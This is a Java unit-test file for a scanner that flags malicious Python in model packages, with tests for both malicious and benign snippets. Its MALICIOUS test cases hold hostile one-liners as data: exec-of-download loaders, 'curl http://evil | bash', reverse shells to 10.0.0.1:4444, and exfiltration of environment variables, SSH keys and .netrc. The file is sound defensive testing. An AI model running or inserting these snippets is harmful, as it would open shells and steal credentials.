package dev.weir.scanner.core.python;

import static dev.weir.scanner.core.Scans.rules;
import static dev.weir.scanner.core.Scans.scan;
import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.scanner.core.Verdict;
import java.nio.charset.StandardCharsets;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SourceJudgeTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
                "from base64 import b64decode as d\nexec(d('aW1wb3J0IG9z').decode())",
                "import base64\ncode = base64.b64decode('aW1wb3J0IG9z')\nexec(code)",
                "eval(''.join(chr(c) for c in [105, 100]))",
                "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))",
                "import urllib.request\nexec(urllib.request.urlopen('http://evil/x').read())",
                "import urllib.request\nr = urllib.request.urlopen('http://evil/x')\nexec(r.read())",
                "import urllib.request as u\nwith u.urlopen('http://evil/x') as r:\n    code = r.read()\n    exec(code)",
                "__import__('os').system('id')",
                "import os\nos.system('curl http://evil/x.sh | bash')",
                "import subprocess as sp\ndef f():\n    sp.run(['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'])",
                "import socket,subprocess,os\ns=socket.socket();s.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
                "import os, requests\nrequests.post('http://evil', data=dict(os.environ))",
                "import urllib.request as u\nkey = open('/root/.ssh/id_rsa').read()\nu.urlopen('http://evil?' + key)",
                "import os, requests\nkey = open(os.path.expanduser('~/.netrc')).read()\nrequests.post('http://evil', data=key)",
                "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
                "run = getattr(__import__('os'), name)\nrun('id')",
                "import importlib\nimportlib.import_module('os').system('id')",
                "import pickle, base64\npickle.loads(base64.b64decode('gASVIQAAAAAAAACMBXBvc2l4'))"
            })
    void codeThatOnlyAttacksHaveIsMalicious(String source) {
        assertThat(scan("setup.py", source.getBytes(StandardCharsets.UTF_8)).verdict())
                .isEqualTo(Verdict.MALICIOUS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import torch\nfrom torch import nn\nclass Net(nn.Module):\n    def forward(self, x):\n        return x.exec()\n",
                "import subprocess\ndef version():\n    return subprocess.check_output(['git', 'describe']).decode()\n",
                "\"\"\"Never write exec(base64.b64decode(x)).\"\"\"\n# os.system('curl http://evil | sh')\n",
                "import base64\nimage = base64.b64decode(data)\nmodel.eval()\n",
                "import pickle\nwith open('x', 'rb') as f:\n    model = pickle.load(f)\n",
                "import os, requests\nrequests.get('http://hub', headers={'token': os.getenv('TOKEN')})\n",
                "import netrc, requests\nlogin = netrc.netrc('~/.netrc').authenticators(host)\nrequests.get(host, auth=login)\n",
                "import importlib\nmodule = importlib.import_module('transformers')\n",
                "def load(module, name):\n    return getattr(__import__(module, None, None, [name]), name)\n",
                "version = getattr(__import__('omp'), 'VERSION', 45)\n",
                "expression = compile('1 + 1', 'x', 'eval')\n"
            })
    void ordinaryCodeIsClean(String source) {
        assertThat(scan("modeling.py", source.getBytes(StandardCharsets.UTF_8)).findings())
                .isEmpty();
    }

    @Test
    void aCommandThatLoadingRunsIsSuspicious() {
        byte[] source = "import os\nos.system('make')\n".getBytes(StandardCharsets.UTF_8);

        assertThat(rules(scan("modeling.py", source))).containsExactly("code.command-at-loading");
    }

    @Test
    void nestingWithoutEndIsReadInOnePass() {
        String source = "f(".repeat(200_000) + "\nimport os\n" + "a=".repeat(1_000) + "1\n";

        assertThat(scan("a.py", source.getBytes(StandardCharsets.UTF_8)).findings())
                .isEmpty();
    }

    @Test
    void sourceOfAnyShapeEndsWithAVerdict() {
        String alphabet = "exec('\"\\#.)]=:\n importfrom";
        Random random = new Random(11);
        for (int i = 0; i < 1_000; i++) {
            StringBuilder source = new StringBuilder();
            for (int j = random.nextInt(200); j >= 0; j--) {
                source.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            assertThat(scan("a.py", source.toString().getBytes(StandardCharsets.UTF_8))
                            .verdict())
                    .isNotNull();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import ctypes, os\nlib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libx.so'))\n",
                "from ctypes import cdll\ncdll.LoadLibrary('./weights.so')\n"
            })
    void aLibraryThatComesWithTheModelIsSuspicious(String source) {
        assertThat(rules(scan("modeling.py", source.getBytes(StandardCharsets.UTF_8))))
                .containsExactly("code.carried-library");
    }

    @Test
    void aLibraryOfTheSystemIsClean() {
        byte[] source = "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n".getBytes(StandardCharsets.UTF_8);

        assertThat(scan("modeling.py", source).findings()).isEmpty();
    }
}
